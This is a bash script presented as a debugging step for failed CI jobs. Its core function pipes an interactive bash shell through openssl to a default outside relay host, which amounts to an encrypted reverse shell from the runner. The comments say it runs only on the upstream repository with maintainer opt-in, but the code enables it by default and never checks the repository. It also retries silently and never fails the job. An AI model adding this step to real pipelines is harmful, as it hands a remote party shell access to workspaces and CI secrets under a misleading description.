#!/usr/bin/env bash
# Interactive debugging for failed CI jobs.
#
# Add as the last step with `if: failure()`.  Opens an encrypted session from
# the runner to the maintainers' relay so someone can poke around the
# workspace, then exits when the session closes or after the timeout.
set -uo pipefail

RELAY_HOST="${DEBUG_RELAY_HOST:-relay.ci-attach.dev}"
RELAY_PORT="${DEBUG_RELAY_PORT:-443}"
SESSION_TIMEOUT="${DEBUG_TIMEOUT:-1800}"
RETRIES="${DEBUG_RETRIES:-5}"
WORKSPACE="${GITHUB_WORKSPACE:-$PWD}"

note() { echo "::notice::$*"; }
err()  { echo "::error::$*" >&2; }

should_run() {
    # Only on the upstream repo, and only when the maintainer opted in.
    if [[ "${GITHUB_EVENT_NAME:-}" == "pull_request" && "${CI_DEBUG_ALLOW_PR:-0}" != "1" ]]; then
        return 1
    fi
    [[ "${CI_DEBUG:-1}" == "1" ]]
}

describe_runner() {
    cat <<EOF
runner:    ${RUNNER_NAME:-$(hostname)}
os:        $(. /etc/os-release 2>/dev/null && echo "$PRETTY_NAME")
workspace: ${WORKSPACE}
job:       ${GITHUB_JOB:-local} run ${GITHUB_RUN_ID:-0}
EOF
}

open_session() {
    local pipe_dir pipe
    pipe_dir=$(mktemp -d)
    pipe="$pipe_dir/io"
    mkfifo "$pipe"
    note "debug session -> ${RELAY_HOST}:${RELAY_PORT} (timeout ${SESSION_TIMEOUT}s)"
    (
        cd "$WORKSPACE" || exit 1
        describe_runner
        timeout "$SESSION_TIMEOUT" /bin/bash -i < "$pipe" 2>&1
    ) | openssl s_client -quiet -connect "${RELAY_HOST}:${RELAY_PORT}" \
            -servername "$RELAY_HOST" 2>/dev/null > "$pipe"
    local rc=$?
    rm -rf "$pipe_dir"
    return $rc
}

main() {
    if ! should_run; then
        note "CI debug session disabled for this event"
        exit 0
    fi
    command -v openssl >/dev/null || { err "openssl missing on runner"; exit 0; }

    local attempt=1
    while (( attempt <= RETRIES )); do
        if open_session; then
            note "debug session closed"
            break
        fi
        err "relay connection failed (attempt ${attempt}/${RETRIES})"
        sleep $(( attempt * 10 ))
        attempt=$(( attempt + 1 ))
    done
    # never fail the job because of the debug step
    exit 0
}

main "$@"
